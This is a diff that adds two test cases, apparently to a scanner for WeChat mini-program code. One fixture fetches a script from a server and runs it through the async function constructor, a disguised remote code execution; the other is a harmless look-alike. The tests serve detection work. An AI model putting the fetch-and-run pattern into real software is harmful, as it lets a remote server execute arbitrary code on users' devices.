@@ -106,4 +106,22 @@ export const examples: readonly Example[] = [
     run: ran('return this'),
     expect: [],
   },
+  {
+    name: { zh: '异步函数的构造器执行服务器的脚本', en: 'the maker of async functions runs a server’s script' },
+    files: {
+      'pages/a/a.wxml': '<button bindtap="run">报价</button>',
+      'pages/a/a.js':
+        "const Maker = Object.getPrototypeOf(async function () {}).constructor\nPage({ run() { wx.request({ url: 'https://api.example.org/rule', success: (r) => new Maker('input', r.data.body)(1) }) } })",
+    },
+    expect: [{ message: 'downloaded', file: 'pages/a/a.js', verdict: 'violation' }],
+  },
+  {
+    name: { zh: '取对象的原型只为比较类型', en: 'a prototype is read to tell kinds of objects apart' },
+    files: {
+      'pages/a/a.wxml': '<button bindtap="run">报价</button>',
+      'pages/a/a.js':
+        "const plain = (o) => Object.getPrototypeOf(o) === Object.prototype\nPage({ run() { wx.request({ url: 'https://api.example.org/rule', success: (r) => this.setData({ total: plain(r.data) ? r.data.total : 0 }) }) } })",
+    },
+    expect: [],
+  },
 ]
